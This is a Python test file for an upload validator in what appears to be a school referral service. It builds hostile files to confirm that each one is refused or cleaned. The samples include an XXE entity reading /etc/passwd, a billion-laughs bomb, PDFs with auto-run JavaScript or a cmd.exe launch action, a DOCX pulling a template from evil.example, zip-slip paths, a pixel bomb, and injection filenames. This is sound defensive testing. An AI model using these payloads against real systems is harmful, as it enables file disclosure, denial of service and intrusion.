"""Files made to harm: each is refused in a sentence, through the real page, and the referral is kept (standards 10)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image, PngImagePlugin
from sqlalchemy import select

from tests.referrals import walks
from tests.referrals.test_files import BAD, GOOD, docx, odt, pdf, picture, upload, zipped
from triage.db import db
from triage.referrals import store
from triage.referrals.models import Referral, ReferralFile
from triage.referrals.unfit import Unfit
from triage.referrals.uploads import accept, tidy_name

MEGABYTE = 1024 * 1024
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = (
    "<!DOCTYPE a ["
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(9))
    + "]><a>&l8;</a>"
)
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


def made_pdf(*, change=None, **saving) -> bytes:
    """A real PDF with one thing in it."""
    made = io.BytesIO()
    with pikepdf.new() as paper:
        paper.add_blank_page()
        if change is not None:
            change(paper)
        paper.save(made, **saving)
    return made.getvalue()


def runs_on_opening(paper: pikepdf.Pdf) -> None:
    paper.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def launches(paper: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    paper.pages[0].Annots = paper.make_indirect([paper.make_indirect(note)])


def holds_a_file(paper: pikepdf.Pdf) -> None:
    paper.attachments["program.exe"] = b"MZ"


def odt_with(**parts: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        for name, text in {"content_xml": "<office/>", **parts}.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), text)
    return made.getvalue()


def archive_with_name(name: str) -> bytes:
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(name, "x")
    return made.getvalue()


def png_of_many_pixels() -> bytes:
    """A few bytes that say they are 50,000 pixels wide and high."""
    head = struct.pack("!IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    parts = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 1000)), (b"IEND", b"")]
    written = (
        struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body)) for kind, body in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(written)


HARM = {
    **BAD,
    "script.pdf": made_pdf(change=runs_on_opening),
    "hidden.pdf": made_pdf(change=runs_on_opening, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "launch.pdf": made_pdf(change=launches),
    "attached.pdf": made_pdf(change=holds_a_file),
    "locked.pdf": made_pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "owned.pdf": made_pdf(encryption=pikepdf.Encryption(owner="a", user="")),
    "page-behind.pdf": pdf() + b"<html><script>alert(1)</script>",
    "page-before.pdf": b"<html>" + pdf(),
    "xxe.docx": docx(word__document_xml=XXE),
    "xxe-aside.docx": docx(word__styles_xml=XXE),
    "xxe.odt": odt_with(content_xml=XXE),
    "laughs.odt": odt_with(meta_xml=LAUGHS),
    "macros.odt": odt_with(Basic__Standard__Module1_xml="<script/>"),
    "scripts.odt": odt_with(**{"Scripts__python__a.py": "import os"}),
    "control.docx": docx(**{"word__activeX__activeX1.bin": "x"}),
    "object.docx": docx(**{"word__embeddings__oleObject1.bin": "x"}),
    "template.docx": docx(**{"word___rels__settings_xml.rels": TEMPLATE}),
    "up.docx": archive_with_name("../../etc/cron.d/x"),
    "root.docx": archive_with_name("/etc/passwd"),
    "behind.docx": docx() + b"<html>",
    "many.docx": docx(**{f"a{number}": "" for number in range(2_100)}),
    "many-pixels.png": png_of_many_pixels(),
    "vector.png": b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
    "vector.svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
    "macro.docm": docx(),
    "old.doc": b"\xd0\xcf\x11\xe0" + bytes(600),
    "double.pdf.exe": pdf(),
}


@pytest.mark.parametrize("name", HARM)
def test_v5_2_2_a_file_made_to_harm_is_refused(name):
    with pytest.raises(Unfit) as refusal:
        accept(name, HARM[name], most_bytes=10 * MEGABYTE)

    assert name in refusal.value.sentence


@pytest.mark.slow
@pytest.mark.parametrize("database_kind", ["sqlite"])
def test_v5_2_2_each_is_refused_on_the_page_and_the_referral_is_kept(app, sign_in, people):
    school = sign_in(people.referrer)
    draft = walks.begin(school)
    school.submit(f"{draft}/form/told", told="not_known")

    small = {name: content for name, content in HARM.items() if len(content) < MEGABYTE}  # to the page all are alike
    pages = {name: upload(school, draft, name, content) for name, content in small.items()}

    unclear = [name for name, page in pages.items() if page.status not in {413, 422} or not page.errors]
    assert unclear == []
    assert db.session.scalars(select(ReferralFile)).all() == []
    assert db.session.scalars(select(Referral)).unique().one().answers["pages"]["told"]


GENUINE = {
    "signed.pdf": made_pdf(),
    "packed.pdf": made_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "lines.pdf": pdf() + b"\r\n\n",
    "links.docx": docx(**{"word___rels__document_xml.rels": TEMPLATE.replace("attachedTemplate", "hyperlink")}),
    "chart.docx": docx(**{"word__embeddings__Microsoft_Excel_Sheet.xlsx": "PK"}),
}


@pytest.mark.parametrize("name", GENUINE)
def test_what_people_really_send_is_taken(name):
    assert accept(name, GENUINE[name], most_bytes=10 * MEGABYTE).content == GENUINE[name]


def test_v5_2_1_a_file_of_more_bytes_than_are_taken_is_refused():
    whole = GENUINE["packed.pdf"]

    with pytest.raises(Unfit, match="must be smaller than"):
        accept("packed.pdf", whole, most_bytes=len(whole) - 1)
    assert accept("packed.pdf", whole, most_bytes=len(whole)).content == whole


def test_v5_2_1_a_picture_of_more_pixels_than_are_drawn_is_refused_though_it_weighs_little():
    made = io.BytesIO()
    Image.new("1", (8_000, 7_600)).save(made, "PNG")

    with pytest.raises(Unfit, match="too many pixels"):
        accept("plan.png", made.getvalue(), most_bytes=10 * MEGABYTE)


def test_v14_2_8_text_in_a_drawing_is_taken_out():
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", "Elm Row")
    words.add_itxt("Comment", "Elm Row in full")
    made = io.BytesIO()
    Image.new("RGB", (40, 20), "teal").save(made, "PNG", pnginfo=words, dpi=(300, 300))

    clean = accept("drawing.png", made.getvalue(), most_bytes=MEGABYTE).content

    assert b"Elm Row" in made.getvalue()
    assert b"Elm Row" not in clean
    assert Image.open(io.BytesIO(clean)).info == {}


def test_v5_2_2_what_hangs_behind_a_picture_is_gone():
    clean = accept("door.jpg", picture("JPEG") + zipped(a="page") + b"<script>", most_bytes=MEGABYTE).content

    assert b"<script>" not in clean
    assert not zipfile.is_zipfile(io.BytesIO(clean))


NAMES = {
    "../../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\boot.pdf": "boot.pdf",
    "plan\r\nSet-Cookie: a=b.pdf": "planSet-Cookie a=b.pdf",
    "plan\x00.exe.pdf": "plan.exe.pdf",
    "\u202efdp.exe.pdf": "fdp.exe.pdf",
    '"><script>alert(1)<script>.pdf': "scriptalert(1)script.pdf",
    "a" * 300 + ".pdf": "a" * 116 + ".pdf",
    "Zażółć 名前.pdf": "Zażółć 名前.pdf",
    ".pdf.pdf": "pdf.pdf",
}


@pytest.mark.parametrize("given", NAMES)
def test_v5_3_2_an_odd_name_is_made_plain(given):
    assert tidy_name(given) == NAMES[given]


@pytest.mark.parametrize("database_kind", ["sqlite"])
@pytest.mark.parametrize("given", [name for name in NAMES if not set(name) & set('\r\n"')])
def test_v5_3_2_an_odd_name_harms_nothing(app, sign_in, people, given):
    school = sign_in(people.referrer)
    draft = walks.begin(school)

    upload(school, draft, given, GOOD["plan.pdf"])

    file = db.session.scalars(select(ReferralFile)).one()
    assert file.name == NAMES[given]
    answer = school.send("GET", f"{draft}/files/{file.id}")
    assert answer.headers["Content-Disposition"].startswith("attachment; filename")
    assert answer.mimetype == "application/pdf"
    assert store._place(file.store_key).name == file.store_key
    assert file.store_key.isalnum()


@pytest.mark.parametrize("database_kind", ["sqlite"])
def test_v5_4_1_a_picture_is_never_shown_in_the_browser(app, sign_in, people):
    school = sign_in(people.referrer)
    draft = walks.begin(school)
    upload(school, draft, "door.jpg", GOOD["door.jpeg"])
    upload(school, draft, "notes.odt", odt())

    answers = [
        school.send("GET", f"{draft}/files/{file.id}") for file in db.session.scalars(select(ReferralFile)).all()
    ]

    assert len(answers) == 2
    assert all(answer.headers["Content-Disposition"].startswith("attachment") for answer in answers)
    assert all(answer.headers["X-Content-Type-Options"] == "nosniff" for answer in answers)
